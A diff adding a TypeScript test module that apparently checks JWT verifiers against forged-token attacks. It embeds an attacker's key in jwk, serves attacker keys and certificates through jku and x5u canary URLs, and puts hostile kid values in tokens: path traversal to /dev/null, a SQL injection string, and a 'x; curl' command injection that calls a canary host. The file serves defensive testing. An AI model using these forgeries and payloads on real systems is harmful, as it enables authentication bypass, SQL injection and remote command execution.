@@ -1,0 +1,97 @@
+import { createPublicKey, type KeyObject } from 'node:crypto'
+import type { CertifiedKey } from '../../ca/types.js'
+import { hmacSigned } from '../../harness/mutations/hmac.js'
+import { signature } from '../../harness/mutations/mutation.js'
+import type { Mutation } from '../../harness/mutations/types.js'
+import type { Row } from '../support/row.js'
+
+const jwk = (key: KeyObject) => ({ ...createPublicKey(key).export({ format: 'jwk' }), use: 'sig', alg: 'RS256' })
+
+const jwks = (key: KeyObject, kid?: string) => ({
+  contentType: 'application/json',
+  body: JSON.stringify({ keys: [{ ...jwk(key), ...(kid && { kid }) }] }),
+})
+
+const pem = ({ chain }: CertifiedKey) => ({
+  contentType: 'application/pem-certificate-chain',
+  body: chain
+    .map(
+      (der) =>
+        `-----BEGIN CERTIFICATE-----\n${der.toString('base64').replace(/.{64}/g, '$&\n')}\n-----END CERTIFICATE-----\n`,
+    )
+    .join(''),
+})
+
+/** A `jku` from which the attacker's key can be fetched. */
+export const withJku: Mutation = signature("jku of the attacker's key, attacker-signed", (signing, context) => {
+  signing.key = context.foreignKey
+  signing.header.jku = context.canary('jku', jwks(context.foreignKey))
+})
+
+/** An `x5u` from which the attacker's certificate can be fetched. */
+export const withX5u: Mutation = signature("x5u of the attacker's certificate, attacker-signed", (signing, context) => {
+  signing.key = context.untrusted.key
+  signing.header.x5u = context.canary('x5u', pem(context.untrusted))
+})
+
+const traversal = '../'.repeat(12)
+
+/** Header members that name another key than the first of `x5c` (L247, L248). */
+export const refused: readonly Row[] = [
+  {
+    id: 'header.jwk',
+    title: "an attacker's key in jwk",
+    requirements: ['JWT-HEADER-KEYS'],
+    cases: ['HDR-02'],
+    detects: ['honours-jwk'],
+    mutate: signature("jwk of the attacker's key, attacker-signed", (signing, { foreignKey }) => {
+      signing.key = foreignKey
+      signing.header.jwk = jwk(foreignKey) as Record<string, string>
+    }),
+  },
+  {
+    id: 'header.jku',
+    title: "an attacker's key behind jku",
+    requirements: ['JWT-HEADER-KEYS'],
+    cases: ['HDR-03'],
+    detects: ['honours-jku'],
+    mutate: withJku,
+  },
+  {
+    id: 'header.x5u',
+    title: "an attacker's certificate behind x5u",
+    requirements: ['JWT-HEADER-KEYS'],
+    cases: ['HDR-04'],
+    detects: ['honours-x5u'],
+    mutate: withX5u,
+  },
+  {
+    id: 'header.kid',
+    title: 'a kid that names a file, a query or a command',
+    requirements: ['JWT-HEADER-KEYS'],
+    cases: ['HDR-05'],
+    detects: ['honours-kid'],
+    mutate: [
+      hmacSigned(
+        'kid of an empty file',
+        () => '',
+        () => ({ kid: `${traversal}dev/null` }),
+      ),
+      hmacSigned(
+        'kid of an empty file, absolute',
+        () => '',
+        () => ({ kid: '/dev/null' }),
+      ),
+      hmacSigned(
+        'kid with SQL',
+        () => 'key',
+        () => ({ kid: "x' UNION SELECT 'key' -- " }),
+      ),
+      hmacSigned(
+        'kid with a command',
+        () => '',
+        ({ canary }) => ({ kid: `x; curl ${canary('kid')} #` }),
+      ),
+    ],
+  },
+]
